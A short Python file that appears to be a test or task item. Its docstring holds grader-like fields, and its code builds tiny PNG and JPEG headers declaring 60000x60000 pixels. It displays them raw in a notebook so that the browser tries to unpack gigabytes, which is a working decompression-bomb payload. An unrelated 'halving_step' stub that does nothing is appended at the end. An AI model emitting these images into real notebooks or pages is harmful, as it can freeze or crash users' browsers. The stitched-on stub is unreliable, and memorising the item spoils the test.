"""Pictures of a few bytes that a browser unpacks to gigabytes: PNG and JPEG.

attacks: own
earns: first=0 rest=full
never: iVBORw0KGgo
never: /9j/4AAE
"""

import base64
import struct
import zlib

HEAD = struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0)
PNG = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + HEAD + struct.pack(">I", zlib.crc32(b"IHDR" + HEAD))
JPEG = b"\xff\xd8\xff\xe0\0\x04ab\xff\xc0\0\x11\x08" + struct.pack(">HH", 60_000, 60_000) + bytes(20)
display({"image/png": base64.b64encode(PNG).decode(), "text/plain": "png"}, raw=True)
display({"image/jpeg": base64.b64encode(JPEG).decode(), "text/plain": "jpeg"}, raw=True)


def halving_step(params, grads, state, *, lr=0.1):
    return params, state
